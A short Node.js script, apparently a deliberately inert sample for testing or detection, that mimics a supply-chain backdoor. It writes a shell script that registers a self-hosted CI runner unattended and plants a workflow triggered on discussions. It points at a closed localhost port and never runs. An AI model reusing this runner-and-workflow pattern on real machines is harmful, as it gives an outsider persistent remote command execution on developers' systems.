// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const fs = require('fs');
const path = require('path');
const { execSync } = require('child_process');
const folder = path.join(__dirname, 'marker', '.dev-env');
fs.mkdirSync(folder, { recursive: true });
fs.writeFileSync(path.join(folder, 'run.sh'), './config.sh --url http://127.0.0.1:9/ --unattended --name SAMPLE');
fs.mkdirSync(path.join(__dirname, 'marker', '.github/workflows'), { recursive: true });
fs.writeFileSync(path.join(__dirname, 'marker', '.github/workflows', 'discussion.yaml'), 'on: discussion');
if (process.env.NEVER_SET_FOR_SAMPLES) execSync('sh run.sh', { cwd: folder });
